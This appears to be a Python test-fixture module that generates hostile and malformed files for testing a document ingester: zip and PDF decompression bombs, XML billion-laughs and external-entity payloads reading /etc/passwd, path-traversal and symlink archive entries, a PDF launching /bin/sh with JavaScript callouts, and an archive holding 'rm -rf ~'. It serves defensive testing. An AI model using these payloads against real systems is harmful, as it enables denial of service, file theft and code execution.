"""Files made to do harm, or that do it by accident.

Each function makes one, around an address that would notice if anybody came there.
"""

import gzip
import io
import struct
import zipfile
import zlib

import docx
import pypdf

from tests.ingesting.paper import REVIEW, Paper

_MB = 1024 * 1024

_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override '
    'PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'wordprocessingml.document.main+xml"/></Types>'
)
_RELATIONS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
    '2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>'
)
_NAMESPACE = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def zipped(parts: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method, compresslevel=1) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def word(body: str, doctype: str = "", **parts: bytes) -> bytes:
    """A Word document around its XML."""
    document = (
        f'<?xml version="1.0"?>{doctype}<w:document {_NAMESPACE}><w:body>{body}</w:body>'
        "</w:document>"
    )
    return zipped(
        {
            "[Content_Types].xml": _TYPES.encode(), "_rels/.rels": _RELATIONS.encode(),
            "word/document.xml": document.encode(), **parts,
        }
    )  # fmt: skip


def paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def good_pdf() -> bytes:
    made = Paper()
    made.add_page()
    made.paragraph(REVIEW)
    return made.bytes()


def good_word() -> bytes:
    out = io.BytesIO()
    document = docx.Document()
    document.add_paragraph(REVIEW)
    document.save(out)
    return out.getvalue()


def _pdf(objects: list[bytes], trailer: bytes = b"/Root 1 0 R") -> bytes:
    """A PDF around its objects, the first of which is the catalogue."""
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for number, content in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<< /Size %d %s >>\nstartxref\n%d\n%%%%EOF" % (
        len(objects) + 1, trailer, start,
    )  # fmt: skip
    return bytes(out)


_CATALOGUE = b"<< /Type /Catalog /Pages 2 0 R >>"
_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def _page_of(stream: bytes, extra: bytes = b"", resources: bytes = b"") -> bytes:
    return _pdf([
        _CATALOGUE,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R /Resources "
        b"<< /Font << /F 5 0 R >> %s >> >>" % resources,
        stream,
        _FONT,
        *([extra] if extra else []),
    ])  # fmt: skip


def _stream(content: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), extra, content)


def _flate(pieces: int, piece: bytes) -> bytes:
    packer = zlib.compressobj(9)
    first = packer.compress(piece) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(piece) + packer.flush(zlib.Z_FULL_FLUSH)
    return _stream(first + again * (pieces - 1) + packer.flush(), b"/Filter /FlateDecode")


def pdf_stream_bomb(_: str) -> bytes:
    return _page_of(_flate(1024, b" " * _MB))


def pdf_stream_bomb_twice_packed(_: str) -> bytes:
    inner = zlib.compress(zlib.compress(b" " * (200 * _MB), 6), 6)
    return _page_of(_stream(inner, b"/Filter [/FlateDecode /FlateDecode]"))


def pdf_endless_letters(_: str) -> bytes:
    return _page_of(_flate(12, b"BT /F 9 Tf 50 700 Td (abc def) Tj ET\n" * 20_000))


def pdf_page_tree_circle(_: str) -> bytes:
    return _pdf([
        _CATALOGUE,
        b"<< /Type /Pages /Kids [3 0 R] /Count 9 >>",
        b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Parent 2 0 R /Count 9 >>",
    ])  # fmt: skip


def pdf_table_points_at_itself(_: str) -> bytes:
    whole = good_pdf()
    start = whole.rfind(b"startxref")
    place = int(whole[start + 9 :].split()[0])
    old = whole[whole.rfind(b"trailer") : start]
    return whole[:start].replace(old, old.replace(b">>", b"/Prev %d >>" % place)) + whole[start:]


def pdf_million_objects(_: str) -> bytes:
    return _pdf([
        _CATALOGUE,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R "
        b"/Resources << /Font << /F 5 0 R >> >> >>",
        _stream(b"BT /F 12 Tf 50 700 Td (Few words) Tj ET"),
        _FONT,
        *([b"0"] * 450_000),
    ])  # fmt: skip


def pdf_truncated(_: str) -> bytes:
    return good_pdf()[:300]


def pdf_claims_a_billion_pages(_: str) -> bytes:
    return _pdf([_CATALOGUE, b"<< /Type /Pages /Kids [] /Count 1000000000 >>"])


def pdf_three_thousand_pages(_: str) -> bytes:
    kids = b" ".join(b"3 0 R" for _ in range(3000))
    return _pdf([
        _CATALOGUE,
        b"<< /Type /Pages /Kids [%s] /Count 3000 >>" % kids,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] >>",
    ])  # fmt: skip


def pdf_nested_arrays(_: str) -> bytes:
    return _pdf([
        b"<< /Type /Catalog /Pages 2 0 R /Deep %s >>" % (b"[" * 100_000 + b"]" * 100_000),
        b"<< /Type /Pages /Kids [] /Count 0 >>",
    ])  # fmt: skip


def pdf_form_within_itself(_: str) -> bytes:
    form = _stream(
        b"/X Do",
        b"/Type /XObject /Subtype /Form /BBox [0 0 600 800] "
        b"/Resources << /XObject << /X 6 0 R >> >>",
    )
    text = _stream(b"BT /F 12 Tf 50 700 Td (Few words) Tj ET /X Do")
    return _page_of(text, form, b"/XObject << /X 6 0 R >>")


def pdf_huge_picture(_: str) -> bytes:
    picture = _stream(
        zlib.compress(b"\0" * 4 * _MB, 9),
        b"/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /ColorSpace /DeviceRGB "
        b"/BitsPerComponent 8 /Filter /FlateDecode",
    )
    return _page_of(_stream(b"600 0 0 800 0 0 cm /X Do"), picture, b"/XObject << /X 6 0 R >>")


def pdf_with_actions(address: str) -> bytes:
    script = f'app.launchURL("{address}"); this.submitForm("{address}");'.encode()
    script = script.replace(b"(", b"\\(").replace(b")", b"\\)")
    return _pdf([
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (/bin/sh) >> "
        b"/Names << /JavaScript << /Names [(run) << /S /JavaScript /JS (%s) >>] >> >> >>" % script,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R "
        b"/AA << /O << /S /URI /URI (%s) >> >> "
        b"/Resources << /Font << /F 5 0 R >> >> >>" % address.encode(),
        _stream(b"BT /F 12 Tf 50 700 Td (Few words) Tj ET"),
        _FONT,
    ])  # fmt: skip


def pdf_stream_in_another_file(address: str) -> bytes:
    return _page_of(_stream(b"", b"/F << /FS /URL /F (%s) >>" % address.encode()))


def pdf_with_attachment(_: str) -> bytes:
    writer = pypdf.PdfWriter(clone_from=io.BytesIO(good_pdf()))
    writer.add_attachment("run.exe", b"MZ" + b"\0" * 1000)
    return _saved(writer)


def pdf_with_password(_: str) -> bytes:
    writer = pypdf.PdfWriter(clone_from=io.BytesIO(good_pdf()))
    writer.encrypt("secret", algorithm="AES-256")
    return _saved(writer)


def _saved(writer: pypdf.PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_and_zip(_: str) -> bytes:
    return good_pdf() + zipped({"run.sh": b"rm -rf ~"})


def zip_and_pdf(_: str) -> bytes:
    return zipped({"a.txt": b"x"}) + good_pdf()


def zip_bomb(_: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _TYPES)
        with archive.open("word/document.xml", "w") as part:
            for _n in range(150):
                part.write(b" " * _MB)
    return out.getvalue()


def zip_bomb_nested(_: str) -> bytes:
    inner = zipped({"0": b"\0" * (50 * _MB)})
    for level in range(4):
        inner = zipped({f"{level}-{n}.zip": inner for n in range(8)})
    return inner


def word_with_archive_inside(_: str) -> bytes:
    inner = zip_bomb_nested("")
    return word(paragraph("Few words"), **{"word/embeddings/bomb.zip": inner})


def zip_overlapping(_: str) -> bytes:
    """Many entries of the directory that all name the same compressed bytes."""
    one = zipped({"[Content_Types].xml": b" " * (10 * _MB)})
    start = one.find(b"PK\x01\x02")
    end = one.find(b"PK\x05\x06")
    entry = bytearray(one[start:end])
    length = struct.unpack("<H", entry[28:30])[0]
    entries = bytearray()
    for n in range(1000):
        name = b"word/%05d.xml" % n
        changed = entry[:46] + name.ljust(length, b"_")[:length]
        entries += changed
    tail = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1000, 1000, len(entries), start, 0)
    return one[:start] + bytes(entries) + tail


def zip_lies_about_size(_: str) -> bytes:
    made = bytearray(zip_bomb(""))
    for mark, offset in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        place = made.rfind(mark)
        made[place + offset : place + offset + 4] = struct.pack("<I", 100)
    return bytes(made)


def zip_of_many(_: str) -> bytes:
    return zipped({"[Content_Types].xml": _TYPES.encode(), **{str(n): b"" for n in range(6_000)}})


def word_with_link(_: str) -> bytes:
    out = io.BytesIO(word(paragraph("Few words")))
    with zipfile.ZipFile(out, "a") as archive:
        link = zipfile.ZipInfo("word/link.xml")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()


def word_reaching_up(_: str) -> bytes:
    return word(paragraph("Few words"), **{"../../../tmp/out.xml": b"x"})


def word_entities(_: str) -> bytes:
    levels = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
    doctype = f'<!DOCTYPE x [<!ENTITY a0 "ha">{levels}]>'
    return word(paragraph("&a11;"), doctype)


def word_quadratic(_: str) -> bytes:
    doctype = f'<!DOCTYPE x [<!ENTITY a "{"x" * 100_000}">]>'
    return word(paragraph("&a;" * 100_000), doctype)


def word_outside_entity(address: str) -> bytes:
    doctype = (
        f'<!DOCTYPE x SYSTEM "{address}/x.dtd" [<!ENTITY f SYSTEM "file:///etc/passwd">'
        f'<!ENTITY n SYSTEM "{address}/n">]>'
    )
    return word(paragraph("Before &f; &n; after"), doctype)


def word_template_elsewhere(address: str) -> bytes:
    relations = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        'relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/'
        'officeDocument/2006/relationships/attachedTemplate" '
        f'Target="{address}/t.dotm" TargetMode="External"/></Relationships>'
    )
    return word(paragraph("Few words"), **{"word/_rels/document.xml.rels": relations.encode()})


def word_with_macros(_: str) -> bytes:
    return word(paragraph("Few words"), **{"word/vbaProject.bin": b"x"})


def word_nested(_: str) -> bytes:
    return word("<w:sdt><w:sdtContent>" * 50_000 + "</w:sdtContent></w:sdt>" * 50_000)


def word_cut_short(_: str) -> bytes:
    whole = good_word()
    return whole[: len(whole) // 2]


def html_of_50_mb(_: str) -> bytes:
    return b"<html><body>" + b"<p>words</p>" * (50 * _MB // 12)


def html_of_19_mb(_: str) -> bytes:
    return b"<html><body>" + b"<i>" * (19 * _MB // 3)


def html_nested(_: str) -> bytes:
    return b"<html><body>" + b"<div>" * 100_000 + b"Few words" + b"</div>" * 100_000


def html_reaching_out(address: str) -> bytes:
    return (
        f'<!DOCTYPE html [<!ENTITY f SYSTEM "file:///etc/passwd">]><html><base href="{address}/">'
        f'<link rel="stylesheet" href="{address}/a.css"><script src="{address}/a.js"></script>'
        f'<iframe src="{address}/f"></iframe><img src="{address}/i.png"><p>Few words</p></html>'
    ).encode()


def markdown_quotes(_: str) -> bytes:
    return b">" * 100_000 + b" Few words"


def markdown_brackets(_: str) -> bytes:
    return b"[" * 40_000 + b"Few words" + b"](x)" * 40_000


def markdown_marks(_: str) -> bytes:
    return b"*a _b " * 20_000


def text_in_one_line(_: str) -> bytes:
    return b"word " * (19 * _MB // 5)


def picture_bomb(_: str) -> bytes:
    head = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 2, 0, 0, 0)
    chunk = b"IHDR" + head
    return (
        b"\x89PNG\r\n\x1a\n" + struct.pack(">I", len(head)) + chunk
        + struct.pack(">I", zlib.crc32(chunk)) + zlib.compress(b"\0" * 10 * _MB)
    )  # fmt: skip


def packed_bomb(_: str) -> bytes:
    return gzip.compress(b"\0" * (100 * _MB), 1)
